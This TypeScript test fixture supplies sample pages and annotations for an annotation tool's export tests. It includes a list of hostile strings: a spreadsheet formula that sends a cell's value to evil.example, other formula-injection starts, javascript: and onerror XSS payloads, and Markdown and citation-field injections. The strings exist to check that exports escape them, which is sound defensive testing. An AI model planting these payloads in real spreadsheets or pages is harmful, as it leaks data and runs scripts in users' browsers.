/**
 * Records for the export tests: an ordinary article, a hostile one (formula starts, quotes, line breaks, Markdown
 * and HTML injection, Indonesian and emoji), and annotations of every kind.
 */
import { searchWords } from '../search/search-words.ts'
import type { ExportAnnotation, ExportPage } from './types.ts'

export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
  '+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '=1+2";=1+2',
  'baris satu\nbaris "dua"\r\nbaris tiga',
  '[klik](javascript:alert(1))',
  '<img src=x onerror=alert(1)>',
  '<javascript:alert(1)>',
  '# Judul palsu',
  '1. daftar',
  '| a | b |',
  '“Kita harus tahu,” ujarnya 🎉 — Pemprov Kalteng, déjà',
]

export const PAGE: ExportPage = {
  url: 'https://mmc.kalteng.go.id/berita/read/12345/sekjen-kemendagri-minta-sekda',
  title: 'Sekjen Kemendagri Minta Sekda dan Kepala Bappeda Manfaatkan Forum Rakor',
  outlet: 'MMC Kalteng',
  author: 'Humas Pemprov Kalteng',
  published: '2025-10-29T09:30:00+07:00',
  province: 'Kalimantan Tengah',
  regency: null,
  firstVisit: Date.UTC(2025, 9, 29, 3, 0, 0),
  lastVisit: Date.UTC(2025, 9, 30, 18, 5, 0),
}

export const HOSTILE_PAGE: ExportPage = {
  url: 'https://jdih.example.go.id/berita?id=1&q=a%20b#x',
  title: '=HYPERLINK("http://evil.example","[klik](javascript:alert(1))") <script>alert(1)</script>',
  outlet: '@SUM(1) “Humas” 🎉',
  author: '-Redaksi\nTY  - JOUR',
  published: '2026-01-05',
  province: null,
  regency: null,
  firstVisit: 1_700_000_000_000,
  lastVisit: 1_700_000_000_001,
}

let counter = 0
export function annotation(overrides: Partial<ExportAnnotation> = {}): ExportAnnotation {
  counter++
  const base: ExportAnnotation = {
    id: `6f1c0a2e-${String(counter).padStart(4, '0')}-4a5b-8c9d-0123456789ab`,
    pageUrl: PAGE.url,
    kind: 'highlight',
    color: 'kuning',
    note: '',
    tags: [],
    quote: { exact: 'menyamakan persepsi', prefix: 'Rakor secara optimal untuk ', suffix: ' dan memperkuat integrasi' },
    position: { start: 812, end: 831 },
    speaker: null,
    createdAt: Date.UTC(2025, 9, 29, 3, 4, 5, 678),
    updatedAt: Date.UTC(2025, 9, 29, 3, 4, 5, 678),
    words: [],
    ...overrides,
  }
  base.words = searchWords(base.quote?.exact, base.note, base.tags.join(' '), base.speaker)
  return base
}

export function sampleAnnotations(): ExportAnnotation[] {
  return [
    annotation(),
    annotation({ kind: 'quote', speaker: 'Tomsi Tohir', quote: { exact: '“Kita harus tahu mana yang menjadi skala prioritas.”', prefix: 'integrasi. ', suffix: ' ujarnya' }, position: { start: 900, end: 951 }, note: 'Cek ke APBD 2025', tags: ['anggaran', 'prioritas'], color: null }),
    annotation({ kind: 'note', quote: null, position: null, note: 'Catatan halaman: hubungi Humas 🎉', tags: ['tindak lanjut'], color: null }),
    ...HOSTILE.map((text, i) => annotation({
      pageUrl: HOSTILE_PAGE.url,
      kind: i % 2 ? 'quote' : 'highlight',
      quote: { exact: text, prefix: HOSTILE[(i + 1) % HOSTILE.length]!, suffix: HOSTILE[(i + 2) % HOSTILE.length]! },
      position: { start: i * 100, end: i * 100 + text.length },
      note: HOSTILE[(i + 3) % HOSTILE.length]!,
      tags: [HOSTILE[(i + 4) % HOSTILE.length]!, 'biasa'],
      speaker: i % 2 ? HOSTILE[(i + 5) % HOSTILE.length]! : null,
      color: i % 3 ? '#fde68a' : HOSTILE[i]!.slice(0, 40),
      createdAt: 1_700_000_000_000 + i,
      updatedAt: 1_700_000_500_000 + i,
    })),
  ]
}
